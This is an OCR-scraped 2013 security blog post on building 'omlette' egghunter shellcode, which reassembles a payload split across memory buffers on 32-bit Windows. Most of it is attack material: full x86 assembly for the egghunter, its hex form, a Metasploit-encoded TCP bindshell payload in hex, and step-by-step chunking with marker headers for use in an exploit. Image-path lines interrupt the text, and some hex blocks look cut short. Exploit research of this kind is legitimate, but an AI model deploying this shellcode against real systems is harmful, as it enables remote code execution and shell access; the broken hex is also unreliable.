Thursday, October 31, 2013

Omlette Egghunter Shellcode


When I firstheard about omlette egghunter shellcode I was pretty keen to give it a try, but did not have the opportunity until after I heard that under some unknown circumstances it "doesn't work" (see the note here).  At that point I thought Id have a try at writing some omlette egghunter shellcode myself.  Then about three years passed until I finally got around to doing it.

Omlette Shellcode

What is it? Omlette shellcode is essentially a variation on egghunter shellcode.  As previously discussed on this blog, egghunter shellcode is a small piece of shellcode, suitable for inserting into space restricted program buffers. Its job is to find, and pass control to, larger sections of shellcode (or "eggs") located in program memory. Traditional egghunter implementations will usually expect that the "egg" will be inserted into memory in one piece.  Omlette shellcode allows you to insert your egg into memory in multiple pieces, and handles the tasks of finding those pieces, sticking them together, and finally passing control to the reconstructed egg.  You would use it in exploits where you don't have enough space to include your entire final payload into memory using a single buffer.

Its a bit of a niche thing, and I don't imagine it will be required in too manyexploits, but I was interested in having a go at writing an implementation myself.

My Implementation

My implementation uses the syscall method for safely searching Windows memory as documented by Matt Miller, and is based on a modification of his egghunter code from here.

I essentially took his memory searching code, modified parts of it to replace stack operations with direct register operations, and added some extra bits at the start and the end to enable the egg to be reconstructed on the stack and then run.Heres the assembly:


    MOV EBP, ESP        ; Get stack pointer into EBP to provide starting offset for location to write shellcode
    OR BX, 0x0fff       ; Add PAGE_SIZE-1 to EBX
    INC EBX             ; Increment memory pointer EBX+1
    XOR EAX, EAX        ; Zero EAX
    MOV AL, 0x02        ; Set EAX for syscall NtAccessCheckAndAuditAlarm
    MOV EDX, EBX        ; Set EDX to memory location for syscall. The syscall clobbers EDX so we cant use it for persistent address storage
    INT 0x2e            ; Perform the syscall
    CMP AL, 0x05        ; Checking for 0xc0000005 (ACCESS_VIOLATION)
    JE loop_inc_page    ; Invalid memory, go to next memory page
    MOV EAX, 0x78563412 ; Put egg marker in EAX
    MOV EDI, EBX        ; Set EDI to the valid memory location from EBX
    SCASD               ; Compare the dword in [EDI] to marker in EAX, increment EDI+4
    JNZ loop_inc_one    ; No match? Back to searching loop
    SCASD               ; Compare the dword in [EDI] to EAX again, increment EDI+4
    JNZ loop_inc_one    ; No match? Back to searching loop
    MOV ESI, EDI        ; Move memory location of start of egg data to ESI
    MOV EDI, EBP        ; Move memory location to write egg to EDI
    LODSW               ; Move word of memory from [ESI] into EAX, increment ESI+2. AH has chunk size, AL has flag value.
    XOR ECX, ECX        ; Zero ECX
    MOV CL, AH          ; Copy AH (egg chunk size) to CL to use as counter for REPMOVSB operation
    CMP AL, 0x01        ; Compare flag value in AL to 1 to see if we have written final egg chunk
    REP MOVSB           ; Copy ECX number of bytes from [ESI] to [EDI]. Increments EDI and ESI by ECX
    MOV EBP, EDI        ; EBP stores address of end of written shellcode
    JNE loop_inc_one    ; Jump back to searching loop if we have not written final egg chunk
    JMP ESP             ; Jump to start of completed egg

Once assembled the code comes out as 53 bytes in size.


Some caveats on the use of this shellcode:
  • Like Matt Millers original egghunter, it assumes that the direction flag is unset.  This will be the case most of the time, but if not you can add a "CLD - \xfc" instruction to the start to clear it.
  • The final "egg" is assembled on the stack starting at the ESP register.  Make sure you don't have anything you need at that location in memory, because it will be overwritten.  Be careful of where the egghunter code itself is located (so you don't overwrite it mid operation) and pivot first if you need to.
  • The egg chunks need to be located in memory IN ORDER.  The egghunter searches memory in ascending order, and it will append the chunks together in the order it finds them until it reaches the final chunk, whereupon it passes control to the reconstructed shellcode.  This might limit the exploits you can use it in - memory ordering may not always be something you can control.
  • I have only tested this on Windows XP SP3.  Presumably it will work on other 32 bit Windows versions too, let me know if not and I'll see if I can fix it.  It is very unlikely to work for 32 bit apps on 64 bit Windows systems.The use of this egghunter is similar to that of Matt Millers original, (click here if you need a reminder of how this works), except instead of inserting the payload using one buffer, you break it up into multiple chunks first.  Each chunk can be of any size up to 255 bytes, and there is no need to maintain consistency in chunk sizes (the chunks can all be different sizes if you want).  Before getting the chunks into memory you have to add a 10 byte header to each chunk which consists of a twice repeating 4 byte "marker" value that helps the egghunter find the egg, followed by a one byte "final chunk" flag value and a one byte size value. The "final chunk" flag value is set to a "\x01" for the final egg chunk (chunk n), and to any other value for chunks 1 through n-1.

Lets consider an example.  Assume you have to write an exploit where the initial buffer you can access after gaining control of processor execution is just big enough for this omlette shellcode.  However, you can also control the contents of four othermemory buffers with about 110 bytes of usable space in each.

First compile the assembly code with nasm and dump the compiled output inhex format to paste into your exploit. You can edit the marker value in the code first if you want to change it. The default value in the assembly above is0x78563412 which will mean you need to send \x12\x34\x56\x78 as the marker in your exploit (remember: bytes in little endian order).  Save the assembly as omlette.asm and do the following:

wolverine:~ stephen$ nasm -f bin omlette.asm -o omlette
wolverine:~ stephen$ cat omlette | perl -e 'print chr(0x22); while (read STDIN, $d, 1) {print "\\x" . sprintf( "%02x", ord($d)); $c++; if ($c == 14) {print chr(0x22) . " .\n" . chr(0x22);$c=0}}; print chr(0x22) . ";\n"'
"\x89\xe5\x66\x81\xcb\xff\x0f\x43\x31\xc0\xb0\x02\x89\xda" .
"\xcd\x2e\x3c\x05\x74\xee\xb8\x12\x34\x56\x78\x89\xdf\xaf" ."\x75\xe9\xaf\x75\xe6\x89\xfe\x89\xef\x66\xad\x31\xc9\x88" .

Lets say the final shellcode you want to use is a Metasploit generated Windows 368 byte shikata_ga_nai encoded TCP bindshell payload like the following:"\xdb\xdd\xd9\x74\x24\xf4\xbb\xfd\x10\xd0\xec\x5f\x33\xc9" .
"\xb1\x56\x31\x5f\x18\x03\x5f\x18\x83\xef\x01\xf2\x25\x10" .
"\x11\x7a\xc5\xe9\xe1\x1d\x4f\x0c\xd0\x0f\x2b\x44\x40\x80" .
"\x3f\x08\x68\x6b\x6d\xb9\xfb\x19\xba\xce\x4c\x97\x9c\xe1" .
"\x4d\x19\x21\xad\x8d\x3b\xdd\xac\xc1\x9b\xdc\x7e\x14\xdd" .
"\x19\x62\xd6\x8f\xf2\xe8\x44\x20\x76\xac\x54\x41\x58\xba" .
"\xe4\x39\xdd\x7d\x90\xf3\xdc\xad\x08\x8f\x97\x55\x23\xd7" .
"\x07\x67\xe0\x0b\x7b\x2e\x8d\xf8\x0f\xb1\x47\x31\xef\x83" .
"\xa7\x9e\xce\x2b\x2a\xde\x17\x8b\xd4\x95\x63\xef\x69\xae" .
"\xb7\x8d\xb5\x3b\x2a\x35\x3e\x9b\x8e\xc7\x93\x7a\x44\xcb" .
"\x58\x08\x02\xc8\x5f\xdd\x38\xf4\xd4\xe0\xee\x7c\xae\xc6" .
"\x2a\x24\x75\x66\x6a\x80\xd8\x97\x6c\x6c\x85\x3d\xe6\x9f" .
"\xd2\x44\xa5\xf7\x17\x7b\x56\x08\x3f\x0c\x25\x3a\xe0\xa6" .
"\xa1\x76\x69\x61\x35\x78\x40\xd5\xa9\x87\x6a\x26\xe3\x43" .
"\x3e\x76\x9b\x62\x3e\x1d\x5b\x8a\xeb\xb2\x0b\x24\x43\x73" .
"\xfc\x84\x33\x1b\x16\x0b\x6c\x3b\x19\xc1\x1b\x7b\xd7\x31" .
"\x48\xec\x1a\xc6\x6a\x3e\x93\x20\x18\xae\xf2\xfb\xb4\x0c" .
"\x21\x34\x23\x6e\x03\x68\xfc\xf8\x1b\x66\x3a\x06\x9c\xac" .
"\x69\xab\x34\x27\xf9\xa7\x80\x56\xfe\xed\xa0\x11\xc7\x66" .
"\x3a\x4c\x8a\x17\x3b\x45\x7c\xbb\xae\x02\x7c\xb2\xd2\x9c" .
"\x2b\x93\x25\xd5\xb9\x09\x1f\x4f\xdf\xd3\xf9\xa8\x5b\x08" ."\x3a\x36\x62\xdd\x06\x1c\x74\x1b\x86\x18\x20\xf3\xd1\xf6" .
"\x9e\xb5\x8b\xb8\x48\x6c\x67\x13\x1c\xe9\x4b\xa4\x5a\xf6" .
"\x81\x52\x82\x47\x7c\x23\xbd\x68\xe8\xa3\xc6\x94\x88\x4c" .
"\x1d\x1d\xb8\x06\x3f\x34\x51\xcf\xaa\x04\x3c\xf0\x01\x4a" .
"\x39\x73\xa3\x33\xbe\x6b\xc6\x36\xfa\x2b\x3b\x4b\x93\xd9" .

To use this, you would first add some NOP padding (shikata_ga_nai tends to error out if you don't pad between the start of the code and the stack pointer), and then break it up into four chunks of 96 bytes each, like shown below.  Note that the egghunter shellcode doesn't require that the chunks be the same size, that's just the easiest way to do it in this case.

"\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90" .
"\x90\x90\xdb\xdd\xd9\x74\x24\xf4\xbb\xfd\x10\xd0\xec\x5f" .
"\x33\xc9\xb1\x56\x31\x5f\x18\x03\x5f\x18\x83\xef\x01\xf2" .
"\x25\x10\x11\x7a\xc5\xe9\xe1\x1d\x4f\x0c\xd0\x0f\x2b\x44" .
"\x40\x80\x3f\x08\x68\x6b\x6d\xb9\xfb\x19\xba\xce\x4c\x97" ."\x9c\xe1\x4d\x19\x21\xad\x8d\x3b\xdd\xac\xc1\x9b\xdc\x7e" .

"\x54\x41\x58\xba\xe4\x39\xdd\x7d\x90\xf3\xdc\xad\x08\x8f" .
"\x97\x55\x23\xd7\x07\x67\xe0\x0b\x7b\x2e\x8d\xf8\x0f\xb1" ."\x47\x31\xef\x83\xa7\x9e\xce\x2b\x2a\xde\x17\x8b\xd4\x95" .
"\x63\xef\x69\xae\xb7\x8d\xb5\x3b\x2a\x35\x3e\x9b\x8e\xc7" .
"\x93\x7a\x44\xcb\x58\x08\x02\xc8\x5f\xdd\x38\xf4\xd4\xe0" .
"\xee\x7c\xae\xc6\x2a\x24\x75\x66\x6a\x80\xd8\x97\x6c\x6c" .

"\x3f\x0c\x25\x3a\xe0\xa6\xa1\x76\x69\x61\x35\x78\x40\xd5" .
"\xa9\x87\x6a\x26\xe3\x43\x3e\x76\x9b\x62\x3e\x1d\x5b\x8a" .
"\xeb\xb2\x0b\x24\x43\x73\xfc\x84\x33\x1b\x16\x0b\x6c\x3b" .
"\x19\xc1\x1b\x7b\xd7\x31\x48\xec\x1a\xc6\x6a\x3e\x93\x20" .
"\x18\xae\xf2\xfb\xb4\x0c\x21\x34\x23\x6e\x03\x68\xfc\xf8" .
"\x1b\x66\x3a\x06\x9c\xac\x69\xab\x34\x27\xf9\xa7\x80\x56" .

"\x7c\xbb\xae\x02\x7c\xb2\xd2\x9c\x2b\x93\x25\xd5\xb9\x09" .
"\x1f\x4f\xdf\xd3\xf9\xa8\x5b\x08\x3a\x36\x62\xdd\x06\x1c" .
"\x74\x1b\x86\x18\x20\xf3\xd1\xf6\x9e\xb5\x8b\xb8\x48\x6c" ."\x67\x13\x1c\xe9\x4b\xa4\x5a\xf6\x81\x52\x82\x47\x7c\x23" .
"\xbd\x68\xe8\xa3\xc6\x94\x88\x4c\x1d\x1d\xb8\x06\x3f\x34" .
"\x51\xcf\xaa\x04\x3c\xf0\x01\x4a\x39\x73\xa3\x33\xbe\x6b" .

Then prepend a header to each chunk comprised of the marker ("\x12\x34\x56\x78") repeated twice, a single byte flag value ("\x01" for the final chunk, and anything else, I have used "\x02", for the other chunks) and a single byte size value ("\x60" as the hex representation of 96).

"\x12\x34\x56\x78\x12\x34\x56\x78\x02\x60\x90\x90\x90\x90" ."\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\xdb\xdd" .
"\xd9\x74\x24\xf4\xbb\xfd\x10\xd0\xec\x5f\x33\xc9\xb1\x56" .
"\x31\x5f\x18\x03\x5f\x18\x83\xef\x01\xf2\x25\x10\x11\x7a" .
"\xc5\xe9\xe1\x1d\x4f\x0c\xd0\x0f\x2b\x44\x40\x80\x3f\x08" .
"\x68\x6b\x6d\xb9\xfb\x19\xba\xce\x4c\x97\x9c\xe1\x4d\x19" .
"\x21\xad\x8d\x3b\xdd\xac\xc1\x9b\xdc\x7e\x14\xdd\x19\x62" .

"\x12\x34\x56\x78\x12\x34\x56\x78\x02\x60\x54\x41\x58\xba" .
"\xe4\x39\xdd\x7d\x90\xf3\xdc\xad\x08\x8f\x97\x55\x23\xd7" .
"\x07\x67\xe0\x0b\x7b\x2e\x8d\xf8\x0f\xb1\x47\x31\xef\x83" .
"\xa7\x9e\xce\x2b\x2a\xde\x17\x8b\xd4\x95\x63\xef\x69\xae" .
"\xb7\x8d\xb5\x3b\x2a\x35\x3e\x9b\x8e\xc7\x93\x7a\x44\xcb" .
"\x58\x08\x02\xc8\x5f\xdd\x38\xf4\xd4\xe0\xee\x7c\xae\xc6" .
"\x2a\x24\x75\x66\x6a\x80\xd8\x97\x6c\x6c\x85\x3d\xe6\x9f" .

"\x12\x34\x56\x78\x12\x34\x56\x78\x02\x60\x3f\x0c\x25\x3a" .
"\xe0\xa6\xa1\x76\x69\x61\x35\x78\x40\xd5\xa9\x87\x6a\x26" .
"\xe3\x43\x3e\x76\x9b\x62\x3e\x1d\x5b\x8a\xeb\xb2\x0b\x24" .
"\x43\x73\xfc\x84\x33\x1b\x16\x0b\x6c\x3b\x19\xc1\x1b\x7b" .
"\xd7\x31\x48\xec\x1a\xc6\x6a\x3e\x93\x20\x18\xae\xf2\xfb" .
"\xb4\x0c\x21\x34\x23\x6e\x03\x68\xfc\xf8\x1b\x66\x3a\x06" ."\x9c\xac\x69\xab\x34\x27\xf9\xa7\x80\x56\xfe\xed\xa0\x11" .

"\x12\x34\x56\x78\x12\x34\x56\x78\x01\x60\x7c\xbb\xae\x02" .
"\x7c\xb2\xd2\x9c\x2b\x93\x25\xd5\xb9\x09\x1f\x4f\xdf\xd3" .
"\xf9\xa8\x5b\x08\x3a\x36\x62\xdd\x06\x1c\x74\x1b\x86\x18" .
